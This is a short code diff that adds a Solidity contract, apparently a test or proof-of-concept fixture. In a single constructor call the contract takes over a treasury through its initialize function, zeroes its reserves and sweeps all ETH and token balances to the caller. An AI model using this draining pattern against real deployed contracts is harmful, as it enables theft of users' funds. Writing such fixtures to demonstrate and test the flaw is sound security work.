@@ -37,3 +37,14 @@ contract SecondInitialiser {
 
     receive() external payable {}
 }
+
+/// The first in one transaction, by the constructor.
+contract InitialiserAtOnce {
+    constructor(ITreasury treasury, IToken token) {
+        treasury.initialize(address(this), address(this), 1);
+        treasury.setReserve(address(0), 0);
+        treasury.setReserve(address(token), 0);
+        treasury.sweep(address(0), msg.sender, address(treasury).balance);
+        treasury.sweep(address(token), msg.sender, token.balanceOf(address(treasury)));
+    }
+}
